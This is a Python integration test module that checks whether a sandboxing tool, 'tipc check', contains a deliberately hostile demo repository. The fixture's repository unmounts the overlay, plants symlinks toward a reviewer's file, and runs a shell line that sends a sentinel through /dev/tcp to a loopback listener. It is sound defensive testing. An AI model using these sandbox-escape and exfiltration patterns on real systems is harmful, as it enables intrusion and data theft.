"""Issue 22 through `tipc check` (lint, run, serving chain, rules), as root: one hostile demo copy whose
train.py detaches the overlay to write the real repo and plants links where tipc itself writes next (the
eval step's log, the status log) leading to a file of the reviewer's, and whose test script (observed to
plan the run) aims at the host. The whole check leaves the repo and the host unchanged, tipc writes nothing
through the links, and `sandbox.violations` FAILs."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.security.conftest import (
    HostileRepo,
    Listener,
    Reviewer,
    _hostile,
    contained,
    ended,
    expect_violation_rule,
    json_out,
)

pytestmark = pytest.mark.integration


@dataclass
class Checked:
    repo: HostileRepo
    done: subprocess.CompletedProcess[str]
    received: bytes
    script_marker: Path
    target: Path
    victim: Path
    victim_text: str


@pytest.fixture(scope="module")
def checked(module_root_reviewer: Reviewer) -> Iterator[Checked]:
    reviewer = module_root_reviewer
    repo = _hostile(reviewer)
    listener = Listener()
    try:
        target = repo.repo / "tipc_attack_umount.txt"
        marker = reviewer.host / "observed.txt"
        reports = reviewer.base / "reports"  # outside the repo: writable by tipc, not by the steps
        reports.mkdir()
        victim = reports / "victim.txt"
        victim_text = "the reviewer's own file\n"
        victim.write_text(victim_text)
        out = repo.repo / "test_tipc" / "output"
        links = {
            str(out / "norm_train_gpus_-1_autocast_null_nodes_1_eval.log"): str(victim),
            str(out / "results_python.log"): str(victim),
        }
        repo.train("link", "umount", targets={"repo": str(target)}, links=links)
        repo.script_line(
            f"touch {marker}; "
            f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
        ).seal()
        done = reviewer.tipc(
            "check",
            str(repo.repo),
            "--device",
            "cpu",
            "--no-color",
            "--format",
            "json",
            "--report-dir",
            str(reports),
        )
        yield Checked(repo, done, listener.received(), marker, target, victim, victim_text)
    finally:
        listener.close()


def test_check_after_an_unmounting_step_leaves_the_repo_unchanged_and_fails_the_violation_rule(
    checked: Checked,
) -> None:
    """The whole check (lint, run, serving chain, rules) after a train.py that detached the overlay."""
    ended(checked.done, 1)
    report = json_out(checked.done)
    assert "umount" in checked.repo.lines(), "the hostile train.py did not run"
    contained(not checked.target.exists(), "the step wrote the real repo after umount2")
    contained(
        checked.repo.unchanged(), f"the check changed the real repo: {checked.repo.changed_files()[:30]}"
    )
    expect_violation_rule(report, "train", {"umount2"})


def test_check_observes_the_script_in_the_sandbox(checked: Checked) -> None:
    json_out(checked.done)
    contained(not checked.script_marker.exists(), "a line of the repo's script created a file on the host")
    contained(
        checked.received == b"", f"the repo's script reached the host's loopback: {checked.received[:200]!r}"
    )


def test_tipc_writes_nothing_through_the_links_a_step_planted(checked: Checked) -> None:
    """A link a step leaves where tipc writes next (its own log of the next step, the status log) leads tipc
    only where the step itself could write: the reviewer's file behind it stays as it was."""
    lines = checked.repo.lines()
    assert "ok" in lines.get("link:results_python.log", []), f"the hostile train.py planted no link: {lines}"
    contained(
        checked.victim.read_text() == checked.victim_text,
        f"tipc wrote through a planted link: {checked.victim.read_text()[:300]!r}",
    )
    assert (checked.victim.parent / "report.json").is_file(), "the reports were not written beside it"
